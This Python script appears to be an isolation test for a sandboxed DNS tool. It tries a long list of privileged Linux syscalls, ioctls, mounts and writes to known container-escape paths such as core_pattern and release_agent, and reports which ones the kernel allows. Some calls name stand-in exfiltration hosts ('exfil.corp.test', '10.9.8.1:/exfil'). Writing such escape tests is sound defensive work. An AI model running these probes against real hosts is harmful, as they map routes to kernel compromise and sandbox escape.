# kernel.py: asks the kernel for what acts outside of the caller's namespaces, or would bring something of the outside in, and prints what
# it was given. Descriptors 10 to 13, if open, are the outside's network, user, mount and PID namespaces; PID is a process outside.
import ctypes, fcntl, os, pty, struct, subprocess, sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
tried, refused = 0, set()
root, outside = os.getuid() == 0, sys.argv[1]


def attempt(what, f):
    global tried
    tried += 1
    try:
        f()
    except OSError as e:
        refused.add(e.strerror)
    except subprocess.CalledProcessError:
        refused.add("refused to ip")
    else:
        print(what, flush=True)


def call(number, *args):
    args = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    r = libc.syscall(ctypes.c_long(number), *args)
    if r < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return r


def calls(*list):
    for what, *args in list:
        attempt(what, lambda: call(*args))


def run(command):
    subprocess.run(command, shell=True, check=True, close_fds=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


MODULE = b"\x7fELF" + bytes(60)
program = ctypes.create_string_buffer(struct.pack("QQ", 0xb7, 0x95))  # r0 = 0; exit
licence = ctypes.create_string_buffer(b"GPL")
load = struct.pack("IIQQ", 1, 2, ctypes.addressof(program), ctypes.addressof(licence)) + bytes(104)  # BPF_PROG_TYPE_SOCKET_FILTER
with open("/proc/sys/vm/unprivileged_userfaultfd") as f:  # 1 before Linux 5.11: anybody's
    userfaultfd = [] if f.read() == "1\n" else [("userfaultfd, for the kernel's faults", 323, 0)]
calls(
    ("bpf, a program", 321, 5, load, 128),
    ("bpf, a map", 321, 0, struct.pack("IIIII", 1, 4, 4, 1, 0) + bytes(108), 128),
    ("bpf, a descriptor by id", 321, 13, struct.pack("I", 1) + bytes(124), 128),
    ("perf_event_open, of all", 298, struct.pack("IIQ", 1, 128, 0) + bytes(112), -1, 0, -1, 0),
    *userfaultfd,
    ("init_module", 175, MODULE, len(MODULE), b""),
    ("delete_module", 176, b"nothing", 0),
    ("kexec_load", 246, 0, 0, b"", 0),
    ("kexec_file_load", 320, -1, -1, 0, b"", 0),
    ("iopl", 172, 3),
    ("ioperm", 173, 0x80, 1, 1),
    ("swapon", 167, b"/dev/zero", 0),
    ("acct", 163, b"/dev/null"),
    ("sethostname", 170, os.uname().nodename.encode(), len(os.uname().nodename)),
    ("reboot", 169, 0, 0, 0, b""),
    ("request_key, callout", 249, b"user", b"exfil.corp.test", b"callout", -3),
    ("request_key, name", 249, b"dns_resolver", b"exfil.corp.test", b"", -3),
    ("request_key, quietly", 249, b"dns_resolver", b"exfil.corp.test", 0, -3),
    ("add_key, name", 248, b"dns_resolver", b"exfil.corp.test", b"\0", 1, -3),
    ("io_uring_setup", 425, 1, bytes(120)),
    ("lookup_dcookie", 212, 0, bytes(8), 8),
    ("nfsservctl", 180, 0, 0, 0),
    ("open_by_handle_at", 304, os.open("/", os.O_RDONLY), struct.pack("Ii8s", 8, 1, bytes(8)), 0),
    ("mknod, memory", 133, b"/tmp/dnsvisor-mem", 0o20666, 0x101),
    ("mknod, tun", 133, b"/tmp/dnsvisor-tun", 0o20666, 0xac8),
)
for kind in "nfs", "nfs4", "cifs", "smb3", "9p", "ceph", "afs", "coda", "nfsd", "virtiofs", "debugfs", "tracefs", "securityfs", "configfs", "pstore", "cgroup", "ext4", "hostfs":
    source = b"10.9.8.1:/exfil" if kind.startswith("nfs") else b"//10.9.8.1/exfil"
    options = b"vers=4,addr=10.9.8.1,clientaddr=10.9.8.7,trans=tcp,ip=10.9.8.1,username=x"
    attempt("mount " + kind, lambda: call(165, source, b"/mnt", kind.encode(), 0, options))
    attempt("fsopen " + kind, lambda: call(430, kind.encode(), 0) if not root else call(-1))

master, slave = pty.openpty()
for what, request, arg in (
    ("TIOCSTI", 0x5412, b"x"), ("TIOCLINUX", 0x541C, b"\3"), ("TIOCCONS", 0x541D, b""),
    ("N_SLIP", 0x5423, struct.pack("i", 1)), ("N_AX25", 0x5423, struct.pack("i", 5)), ("N_GSM0710", 0x5423, struct.pack("i", 21)),
    ("N_CAIF", 0x5423, struct.pack("i", 20)), ("N_SLCAN", 0x5423, struct.pack("i", 17)), ("N_NCI", 0x5423, struct.pack("i", 25)),
):
    attempt(what, lambda: fcntl.ioctl(slave, request, arg))
    attempt(what + " with more than 32 bits", lambda: call(16, slave, request | 1 << 40, arg))

for number, kind in (10, 0x40000000), (11, 0x10000000), (12, 0x20000), (13, 0x20000000):
    attempt("setns %d" % number, lambda: call(308, number, kind))
    attempt("the owner of %d" % number, lambda: os.close(fcntl.ioctl(number, 0xB701)))  # NS_GET_USERNS
    attempt("the parent of %d" % number, lambda: os.close(fcntl.ioctl(number, 0xB702)))

# A network of our own does not reach another one.
run("ip link show lo")
for peer in outside, "/proc/self/fd/10":
    for what in "veth peer name x1", "dummy", "bridge", "macvlan link out0":
        attempt("%s there, %s" % (what, peer), lambda: run("ip link add x0 netns %s type %s" % (peer, what)))
    what = "veth peer name x1"  # of other kinds ip(8) takes the words behind for its own, and makes one here
    attempt("%s here, %s" % (what, peer), lambda: run("ip link add x0 type %s netns %s" % (what, peer)))
    attempt("lo to " + peer, lambda: run("ip link set lo netns %s" % peer))


def tun():
    fd = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(fd, 0x400454CA, struct.pack("16sH22x", b"dnsvisor0", 0x1002))


if os.environ.get("HOME_NETWORK"):
    # The command may change nothing of its own network.
    attempt("tun", tun)
    for command in "link set lo down", "link add x0 type dummy", "addr add 10.9.8.3/24 dev lo", "rule flush", "-6 rule flush", "route flush table 53", "route add default dev lo", "netns attach x $$", "neigh add 10.9.8.1 lladdr 02:00:00:00:00:01 dev lo":
        attempt("ip " + command, lambda: run("ip " + command))
if os.environ.get("HOME_NETWORK") and not root:
    for path in (
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/kernel/poweroff_cmd",
        "/proc/sys/kernel/usermodehelper/bset", "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger",
        "/proc/sys/net/ipv4/ip_unprivileged_port_start", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/accept_source_route", "/proc/sys/net/ipv4/ping_group_range",
        "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/vhost-net", "/dev/vhost-vsock",
        "/dev/userfaultfd", "/dev/uinput", "/dev/ppp", "/dev/console", "/dev/tty0", "/dev/vcs", "/dev/infiniband/uverbs0",
    ):
        attempt(path, lambda: os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)))
print("done", flush=True)
print("%d attempts: %s" % (tried, ", ".join(sorted(refused))), file=sys.stderr)
